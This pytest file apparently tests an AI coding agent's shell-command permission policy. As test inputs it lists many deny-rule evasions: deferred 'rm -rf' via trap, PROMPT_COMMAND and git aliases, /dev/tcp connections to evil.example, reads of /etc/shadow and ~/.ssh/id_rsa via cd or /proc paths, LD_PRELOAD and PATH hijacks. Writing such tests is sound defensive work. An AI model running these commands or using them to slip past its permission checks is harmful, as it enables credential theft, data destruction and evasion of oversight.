"""Ways round a rule that deny rules and narrow allow rules must not leave open, by class."""

from __future__ import annotations

import pytest

from codexmem.codecli.policy.deciding import Policy
from codexmem.codecli.policy.names import Around
from codexmem.kernel.model.tool_access import ToolRequest, Verdict

AROUND = Around("/shop", "/home/me")
DENIED = Policy.parse(
    [], ["command:rm -rf", "command:git push", "path:/etc", "path:~/.ssh", "domain:evil.example"], [],
    max_risk="execute", around=AROUND,
)  # fmt: skip
READING = Policy.parse(
    [{"command": each} for each in (
        "git log", "git diff", "git show", "git grep", "git archive", "sort", "find", "fd", "sed", "awk", "cat",
        "uniq", "xxd",
        "less", "man", "tree", "rg", "tar", "curl", "date", "file", "yq",
    )],
    around=AROUND,
)  # fmt: skip


def decided(policy: Policy, command: str) -> Verdict:
    return policy.decide(ToolRequest("Bash", command=command, cwd="/shop")).verdict


@pytest.mark.parametrize(
    "command",
    [
        # options between a program and its sub-command
        "git -C . push", "git -c a=b push", "git --no-pager push", "git --git-dir=/x --work-tree /y push",
        "git -c core.pager=cat -C sub --no-pager push origin", "sudo -u me git -C . push", "rm -v -rf x",
        "rm --one-file-system -rf x",
        # commands that are defined or put off
        "trap 'rm -rf x' EXIT", 'PROMPT_COMMAND="rm -rf x" bash -i', "BASH_ENV='rm -rf x' bash a.sh",
        "export PROMPT_COMMAND='rm -rf x'", "env GIT_SSH_COMMAND='rm -rf x' git fetch", "alias r='rm -rf'; r x",
        'git -c alias.x="!rm -rf x" x', "git config alias.x '!rm -rf x'", "git rebase --exec 'rm -rf x' main",
        "git submodule foreach 'rm -rf x'", "bash -c 'trap \"rm -rf x\" EXIT'",
        # editors and others that are told a command
        'vim -c ":!rm -rf x"', 'vim "+!rm -rf x"', 'nvim --cmd ":!rm -rf x" a', "tar --to-command='rm -rf x' -xf a.tar",
        "rsync -e 'rm -rf x' a b:", "man -P 'rm -rf x' ls", "rg --pre 'rm -rf x' a",
        # connections that look like files
        "exec 3<>/dev/tcp/evil.example/80", "cat </dev/udp/evil.example/53", "echo x > /dev/tcp/www.evil.example/80",
        # files by where the command has gone
        "cd /; cat etc/shadow", "cd / && cd etc && cat shadow", "(cd /; cat etc/shadow)", "pushd /; cat etc/shadow",
        "git -C / add etc/shadow", "tar -C / -cf a.tar etc/shadow", "tar --directory=/ -cf a.tar etc/shadow",
        "cd ~; cat .ssh/id_rsa", "cd; cat .ssh/id_rsa", "make -C/ etc/shadow", "bash -c 'cd /; cat etc/shadow'",
        # other spellings of a file
        "cat ~me/.ssh/id_rsa", "cat ~u/.ssh/id_rsa", "cat /proc/1/root/etc/shadow", "cat /proc/self/root/etc/shadow",
        "cat /proc/1/task/1/root/etc/shadow", "cat /proc/*/root/etc/shadow", "cat /proc/1/root/proc/1/root/etc/shadow",
        "cp --target-directory=/proc/self/root/etc a",
    ],
)  # fmt: skip
def test_what_is_denied_stays_denied(command: str) -> None:
    assert decided(DENIED, command) is Verdict.DENY


# What a tool may do with a broad rule that allows and a narrow one that denies.
BROAD = Policy.parse(["tool:Bash"], ["command:rm"], [], max_risk="none", around=AROUND)


@pytest.mark.parametrize(
    "command",
    [
        "env -u A -S'rm x'", "env -iS'rm x'", "env --split-string='rm x'", "sg root -c 'rm x'", "npx -c 'rm x'",
        "nix-shell --run 'rm x'", "nix-shell -p git --run \"cd a && rm x\"", "make SHELL='rm x'", "make all CC='rm x'",
        "echo 'rm x' | at now", "echo 'rm x' | cat | batch", "printf '%s' 'rm x' |at now + 1 minute",
        "unknown --exec 'sudo rm x'", "unknown -c \"echo; rm x\"",
    ],
)  # fmt: skip
def test_a_text_that_a_program_may_run_is_read_by_rules_that_deny(command: str) -> None:
    assert decided(BROAD, command) is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    [
        "git commit -m 'Remove the pool (of connections)'", "echo 'rm x' | grep rm", "echo 'a b' | at now",
        "grep -e 'rm -rf' a.sh || true", "grep -rn 'do this' src | sort | head -5", "make CC='gcc -m64'",
    ],
)  # fmt: skip
def test_a_text_that_names_nothing_denied_is_no_reason_to_ask(command: str) -> None:
    allowed = Policy.parse(["tool:Bash"], ["command:shred"], [], max_risk="none", around=AROUND)
    assert decided(allowed, command) is Verdict.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "alias r=rm; r -rf x", "alias g=git p=push; g p", "hash -p /bin/rm ls; ls -rf x", "bind -x '\"a\":b'",
        "complete -C x y",
        "function ls { rm x; }", "ls() { rm x; }; ls", "coproc x", "ENV=./x sh -i", "BASH_ENV=./x bash -c ls",
        "PATH=.:$PATH ls", "PATH=./bin ls", "LD_PRELOAD=./x.so ls", "PAGER=./x git log", "EDITOR=./x git commit",
        "env GIT_EXTERNAL_DIFF=./x git diff", "export PATH=./bin", "declare -x BASH_ENV=./x", "sudo env PATH=./b ls",
        "git -c core.sshCommand=./x fetch", "git -c diff.external=./x diff", "git --exec-path=./x status",
        "git config core.hooksPath ./x", "git difftool -x ./x", "git grep -O./x a", "git fetch --upload-pack=./x o",
        "vim -s script a", "vim -c wq a", "emacs --batch --eval '(x)'", "ed a", "ex a", "nvim -u ./x a",
        "sed -i s/a/b/ x", "sed '1e ls' x", "sed 'w out' x", "sed -n 's/a/b/w out' x", "awk '{system($0)}' x",
        "awk '{print > \"out\"}' x", "perl -lane 'x' a", "python3 -Bc x", "tar -I ./x -tf a",
        "ssh -oProxyCommand=./x h",
        "less +!ls a", "cat ~u/notes", "cat ~+/x", "cd - && cat x", "ls ~root",
        "cd a; cd b; cd c; cd d; cd e; cat x",
    ],
)  # fmt: skip
@pytest.mark.slow
def test_what_cannot_be_read_is_asked(command: str) -> None:
    assert decided(DENIED, command) in {Verdict.ASK, Verdict.DENY}


@pytest.mark.parametrize(
    "command",
    [
        "git status", "git -C sub status", "git --no-pager log", "git -c color.ui=false log",
        "git commit -m 'rm it; push'",
        "git log push", "cd sub && make test", "sed -n 1,20p a", "sed s/a/b/g a", "awk 1 a",
        "vim a", "git config user.name me", "git config --list", "git config --get core.pager", "X=1 make",
        "CI=true npm test",
        "sort -u a", "find . -name '*.py'", "tar -tf a.tar", "echo alias", "grep -rn trap src", "cat /proc/cpuinfo",
        "git show HEAD~1", "git show @~1", "rm -r x", "ls -C", "python3 -m pytest -q",
    ],
)  # fmt: skip
def test_ordinary_work_goes_on(command: str) -> None:
    assert decided(DENIED, command) is Verdict.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "git diff --output=x", "git log --output x", "git log --outp=x",
        "git show --output=/home/me/.ssh/authorized_keys",
        "git diff --ext-diff", "git grep -O a", "git grep --open-files-in-pager=./x a", "git archive -o x HEAD",
        "git archive --remote=x --exec=y", "sort -o x a", "sort -uo x a", "sort --output=x a", "sort --o=x a",
        "sort --compress-program=./x a", "find . -delete", "find . -exec rm x +", "find . -execdir rm x +",
        "find . -ok rm x +",
        "find . -fprint x", "find . -fprintf x a", "find . -fls x", "fd -x rm", "fd . --exec rm", "fd -X rm",
        "sed -i s/a/b/ x",
        "sed -ni p x", "sed --in-place p x", "sed -f script x", "sed 'w out' x", "sed '1e ls' x", "sed s/a/b/w x",
        "sed s/a/ls/e x", "sed -i.bak p x", "sed -e p -e 'w x' a", "awk -f x a", "uniq a b", "xxd -r a", "xxd a b",
        "less -o x a",
        "less --log-file=x a", "less +!ls a", "man -P ./x ls", "man --pager=./x ls", "tree -o x", "rg --pre ./x a",
        "tar --to-command=./x -tf a", "tar -I ./x -tf a", "curl -o x https://a", "curl -O https://a",
        "curl -sT x https://a",
        "curl --data @x https://a", "curl -K x", "date -s x", "file -C -m x", "yq -i .a x",
    ],
)  # fmt: skip
def test_an_allowed_reader_may_not_write_or_run(command: str) -> None:
    assert decided(READING, command) is Verdict.ASK


@pytest.mark.parametrize(
    "command",
    [
        "git log --oneline -5", "git diff HEAD --stat", "git log -p --follow a", "git grep -n -e x", "sort -u -k 2 a",
        "cat a b",
        "find . -name x -type f -print", "fd -e py", "sed -n 1,20p a", "sed s/a/b/g a", "sed -e s/a/b/ -e 3d x",
        "awk 1 a",
        "uniq -c a", "tree -L 2", "rg -n x src", "tar -tf a", "curl -s https://a", "date", "less a", "man ls", "xxd a",
    ],
)  # fmt: skip
def test_an_allowed_reader_may_read(command: str) -> None:
    assert decided(READING, command) is Verdict.ALLOW


def test_an_option_that_the_rule_itself_names_is_allowed() -> None:
    policy = Policy.parse([{"command": "sort -o out"}, {"command": "git diff --output=patch"}], around=AROUND)
    assert decided(policy, "sort -o out a") is Verdict.ALLOW
    assert decided(policy, "git diff --output=patch HEAD") is Verdict.ALLOW
    assert decided(policy, "git diff --output=patch --output=x") is Verdict.ASK
